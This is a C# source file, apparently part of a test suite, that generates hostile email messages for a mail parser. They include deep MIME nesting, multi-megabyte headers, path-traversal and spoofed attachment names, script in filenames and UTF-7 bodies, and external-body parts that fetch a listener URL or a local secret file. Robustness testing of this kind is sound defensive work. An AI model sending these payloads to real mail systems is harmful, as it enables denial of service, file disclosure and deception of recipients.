using System.Text;
using static Mailroom.Hostile.Making.Bytes;

namespace Mailroom.Hostile.Mail;

/// <summary>Mails whose parts and headers are meant to harm.</summary>
internal static class MailAttacks
{
    private const string Headers = "From: Ada <ada@example.org>\r\nTo: bob@example.org\r\nSubject: Invoice number 1\r\nMIME-Version: 1.0\r\n";

    public static IEnumerable<Attack> All(Bait bait) =>
    [
        new("mail-nested-mails", "A mail within a mail, a thousand deep.", () => Latin(Times(Headers + "Content-Type: message/rfc822\r\n\r\n", 1000) + Headers + "\r\nThe body.\r\n")),
        new("mail-nested-parts", "Parts within parts, two thousand deep.", () => NestedParts(2000)),
        new("mail-nested-parts-same-boundary", "Parts within parts, ten thousand deep, all with the same boundary.", () => Latin(Headers + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + Times("--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n", 10_000))),
        new("mail-100000-parts", "A mail of a hundred thousand parts.", () => Mixed(Times("--b\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\na\r\n", 100_000))),
        new("mail-many-headers", "A mail of five hundred thousand headers.", () => Latin(Headers + Times("X-A: b\r\n", 500_000) + "\r\nThe body.\r\n")),
        new("mail-endless-header", "A header of fifteen megabytes.", () => Latin(Headers + "X-Long: " + new string('a', 15_000_000) + "\r\n\r\nThe body.\r\n")),
        new("mail-folded-header", "A header folded over two million lines.", () => Latin(Headers + "References: a\r\n" + Times(" <a@b>\r\n", 1_000_000) + "\r\nThe body.\r\n")),
        new("mail-many-subjects", "A mail of two hundred thousand subjects and senders.", () => Latin(Times("From: a@b\r\nSubject: Invoice\r\n", 200_000) + "\r\nThe body.\r\n")),
        new("mail-many-recipients", "A mail to half a million people.", () => Latin("To: " + Times("\"A\" <a@b.c>,\r\n ", 500_000) + " d@e\r\n" + Headers + "\r\nThe body.\r\n")),
        new("mail-address-comments", "A sender within five million brackets.", () => Latin("From: " + Times("(", 5_000_000) + "a@b\r\n" + Headers + "\r\nThe body.\r\n")),
        new("mail-encoded-words", "A subject of three hundred thousand encoded words.", () => Latin("Subject: " + Times("=?utf-8?B?4pyT?=\r\n ", 300_000) + "\r\n" + Headers + "\r\nThe body.\r\n")),
        new("mail-parameters", "A file's name in two hundred thousand pieces.", () => Mixed("--b\r\nContent-Type: text/plain;\r\n" + string.Concat(Enumerable.Range(0, 200_000).Select(number => $" name*{number}=a;\r\n")) + " x=y\r\n\r\na\r\n--b--\r\n")),
        new("mail-parameter-numbers", "A file's name whose pieces have the largest numbers.", () => Mixed("--b\r\nContent-Type: text/plain; name*2147483647=a; name*99999999999=b; name*0*=utf-8''%FF%00\r\n\r\na\r\n--b--\r\n")),
        new("mail-boundary-empty", "The boundary between parts is empty.", () => Latin(Headers + "Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n" + Times("--\r\n\r\na\r\n", 300_000))),
        new("mail-boundary-prefix", "Boundaries begin with each other, and none is ended.", () => Latin(Headers + "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/mixed; boundary=aa\r\n\r\n--aa\r\nContent-Type: multipart/mixed; boundary=aaa\r\n\r\n--aaa\r\n\r\nInvoice\r\n--a\r\n--aaa--\r\n")),
        new("mail-boundary-long", "A boundary of a megabyte.", () => Latin(Headers + $"Content-Type: multipart/mixed; boundary={new string('b', 1 << 20)}\r\n\r\n" + Times("--" + new string('b', 70) + "\r\n", 100_000))),
        new("mail-names", "Attachments are named to be written outside of a folder, or to look like something else.", Names),
        new("mail-remote-html", "A mail with trackers and remote parts.", () => Latin(Headers + $"Content-Type: text/html\r\n\r\n<img src={bait.Listener}track><link rel=stylesheet href={bait.Listener}css><iframe src={bait.Listener}frame></iframe><p>Invoice number</p>")),
        new("mail-external-body", "The mail's body is to be loaded from a file and an address.", () => Mixed(
            $"--b\r\nContent-Type: message/external-body; access-type=URL; URL=\"{bait.Listener}body\"\r\n\r\nContent-Type: text/plain\r\n\r\n--b\r\nContent-Type: message/external-body; access-type=local-file; name=\"{bait.SecretFile}\"\r\n\r\nContent-Type: text/plain\r\n\r\n--b--\r\n")),
        new("mail-unknown-charset", "A body in a character set that nobody knows, and one that hides markup.", () => Latin(Headers + "Content-Type: text/html; charset=x-unheard-of\r\nContent-Transfer-Encoding: x-unheard-of\r\n\r\n+ADw-script+AD4- \u0080\u00FF Invoice\r\n")),
        new("mail-quoted-printable", "Fifteen megabytes of equals signs.", () => Latin(Headers + "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + Times("=\r\n=", 3_000_000))),
        new("mail-uuencoded", "Lines of uuencode that say to be longer than they are.", () => Latin(Headers + "Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 ../../etc/passwd\r\n" + Times("M\r\n", 2_000_000))),
        new("mail-mbox", "A mailbox of a hundred thousand mails.", () => Latin(Times("From a@b Mon Jan  1 00:00:00 2024\r\n" + Headers + "\r\nThe body.\r\n\r\n", 80_000))),
        new("mail-deep-html", "A mail's body of a million open elements.", () => Latin(Headers + "Content-Type: text/html\r\n\r\n" + Times("<div>", 1_000_000) + "Invoice")),
        new("mail-dates", "Dates that cannot be.", () => Latin("Date: Xxx, 99 Yyy 99999999999 99:99:99 +9999999999\r\nFrom: \r\nTo: ;;;,,,<>@@\r\nSubject: \r\n" + Headers + "\r\nThe body.\r\n")),
    ];

    public static byte[] Mixed(string parts) => Latin(Headers + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts);

    private static byte[] NestedParts(int depth)
    {
        var mail = new StringBuilder(Headers).Append("Content-Type: multipart/mixed; boundary=b0\r\n\r\n");
        for (var level = 0; level < depth; level++) mail.Append("--b").Append(level).Append("\r\nContent-Type: multipart/mixed; boundary=b").Append(level + 1).Append("\r\n\r\n");
        return Latin(mail.Append("--b").Append(depth).Append("\r\n\r\nInvoice\r\n").ToString());
    }

    private static byte[] Names() => Mixed(string.Concat(((string[])["../../etc/passwd", "..\\..\\windows\\win.ini", "a\u0000b.pdf", "a\u0001\u001Bb.txt", "=?utf-8?Q?gpj=E2=80=AEexe=2Epdf?=", "CON", "<script>alert(1)</script>.html", new('n', 100_000)])
        .Select(name => $"--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\nInvoice number\r\n")) + "--b--\r\n");
}
